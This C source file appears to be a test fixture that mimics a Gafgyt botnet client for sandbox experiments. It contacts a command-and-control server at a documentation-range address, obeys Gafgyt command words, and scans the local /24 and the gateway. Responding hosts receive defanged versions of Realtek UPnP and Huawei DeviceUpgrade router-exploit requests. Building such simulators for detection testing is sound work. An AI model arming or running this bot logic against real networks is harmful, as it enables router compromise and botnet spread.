/* A Gafgyt-like LAN scanner for the sandbox tests (see bot.h): it connects to its C&C at a
 * TEST-NET-2 address and waits silently for orders, answers PING, and on "!* SCANNER ON" scans
 * its own /24 and the gateway on 80, 52869 and 37215 (Realtek and Huawei router exploits, with
 * harmless bodies), after an SSDP M-SEARCH. Its command words are Gafgyt's. */
#include "bot.h"

#include <fcntl.h>
#include <poll.h>

static const char *const commands[] = {"PING", "GETLOCALIP", "SCANNER", "KILLATTK",
				       "HOLD", "JUNK",       "UDP"};
static const char *const replies[] = {"PONG!", "My IP: %s", "Killed %d.", "None Killed.",
				      "LOLNOGTFO"};

static uint32_t gateway(void)
{
	FILE *f = fopen("/proc/net/route", "r");
	char line[256];
	unsigned dst, gw, flags;
	uint32_t out = 0;
	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*s %x %x %x", &dst, &gw, &flags) == 3 && dst == 0 && gw)
			out = gw; /* network byte order as the kernel prints it on this host */
	if (f)
		fclose(f);
	return out;
}

static void ssdp(void)
{
	int fd = socket(AF_INET, SOCK_DGRAM, 0);
	struct sockaddr_in a;
	memset(&a, 0, sizeof(a));
	a.sin_family = AF_INET;
	a.sin_port = htons(1900);
	a.sin_addr.s_addr = inet_addr("239.255.255.250");
	static const char msg[] =
		"M-SEARCH * HTTP/1.1\r\nHOST: 239.255.255.250:1900\r\nMAN: \"ssdp:discover\"\r\n"
		"MX: 1\r\nST: urn:schemas-upnp-org:device:InternetGatewayDevice:1\r\n\r\n";
	if (fd >= 0) {
		sendto(fd, msg, sizeof(msg) - 1, 0, (struct sockaddr *)&a, sizeof(a));
		close(fd);
	}
}

static const char *request(int port, char *buf, size_t max, const char *host)
{
	if (port == 52869)
		snprintf(buf, max,
			 "POST /picsdesc.xml HTTP/1.1\r\nHost: %s:52869\r\nContent-Length: 40\r\n"
			 "SOAPAction: "
			 "urn:schemas-upnp-org:service:WANIPConnection:1#AddPortMapping\r\n\r\n"
			 "<NewInternalClient>test</NewInternalClient>",
			 host);
	else if (port == 37215)
		snprintf(buf, max,
			 "POST /ctrlt/DeviceUpgrade_1 HTTP/1.1\r\nHost: "
			 "%s:37215\r\nContent-Length: 36\r\n\r\n"
			 "<NewStatusURL>test</NewStatusURL>\r\n",
			 host);
	else
		snprintf(buf, max, "GET / HTTP/1.0\r\nHost: %s\r\n\r\n", host);
	return buf;
}

/* Non-blocking connects to a batch of (address, port); whatever answers gets a request. */
static void scan_batch(const uint32_t *ips, const int *ports, int n)
{
	int fds[256];
	struct pollfd p[256];
	for (int i = 0; i < n; i++) {
		fds[i] = socket(AF_INET, SOCK_STREAM, 0);
		p[i].fd = fds[i];
		p[i].events = POLLOUT;
		p[i].revents = 0;
		if (fds[i] < 0)
			continue;
		fcntl(fds[i], F_SETFL, O_NONBLOCK);
		struct sockaddr_in a;
		memset(&a, 0, sizeof(a));
		a.sin_family = AF_INET;
		a.sin_port = htons((uint16_t)ports[i]);
		a.sin_addr.s_addr = ips[i];
		connect(fds[i], (struct sockaddr *)&a, sizeof(a));
	}
	long end = bot_now_ms() + 800;
	int left = n;
	while (left > 0 && bot_now_ms() < end) {
		if (poll(p, (nfds_t)n, 100) <= 0)
			continue;
		for (int i = 0; i < n; i++) {
			if (!(p[i].revents & POLLOUT))
				continue;
			int err = 0;
			socklen_t len = sizeof(err);
			getsockopt(fds[i], SOL_SOCKET, SO_ERROR, &err, &len);
			if (!err) {
				char buf[512], host[16];
				struct in_addr in = {ips[i]};
				snprintf(host, sizeof(host), "%s", inet_ntoa(in));
				const char *r = request(ports[i], buf, sizeof(buf), host);
				write(fds[i], r, strlen(r));
			}
			p[i].fd = -1;
			left--;
		}
	}
	for (int i = 0; i < n; i++)
		if (fds[i] >= 0)
			close(fds[i]);
}

static void lan_scan(uint32_t self)
{
	static const int ports[] = {80, 52869, 37215};
	uint32_t net = ntohl(self) & 0xffffff00u, gw = gateway();
	uint32_t ips[200];
	int pts[200], n = 0;
	ssdp();
	/* The gateway first, then every host of the /24. */
	for (int k = 0; k < 3; k++) {
		ips[n] = gw ? gw : htonl(net | 1);
		pts[n++] = ports[k];
	}
	for (int k = 0; k < 3; k++)
		for (uint32_t h = 1; h < 255; h++) {
			uint32_t ip = htonl(net | h);
			if (ip == self)
				continue;
			ips[n] = ip;
			pts[n++] = ports[k];
			if (n == 200) {
				scan_batch(ips, pts, n);
				n = 0;
			}
		}
	if (n)
		scan_batch(ips, pts, n);
}

int main(void)
{
	struct in_addr cnc;
	cnc.s_addr =
		inet_addr("198.51.100.66"); /* TEST-NET-2: routed nowhere but the fake internet */
	int fd = bot_connect(cnc, 666);
	if (fd < 0)
		return 0;
	struct sockaddr_in me;
	socklen_t ml = sizeof(me);
	getsockname(fd, (struct sockaddr *)&me, &ml);
	char line[512];
	while (bot_readline(fd, line, sizeof(line)) >= 0) {
		if (strcmp(line, commands[0]) == 0) {
			dprintf(fd, "%s\n", replies[0]);
		} else if (strcmp(line, "!* GETLOCALIP") == 0) {
			dprintf(fd, replies[1], inet_ntoa(me.sin_addr));
			dprintf(fd, "\n");
		} else if (strcmp(line, "!* SCANNER ON") == 0) {
			lan_scan(me.sin_addr.s_addr);
			dprintf(fd, "SCANNER DONE\n");
#ifndef STAY
			break;
#endif
		} else if (strncmp(line, "!* KILLATTK", 11) == 0) {
			dprintf(fd, "%s\n", replies[3]);
		}
	}
	(void)commands;
	close(fd);
	bot_stay();
	return 0;
}
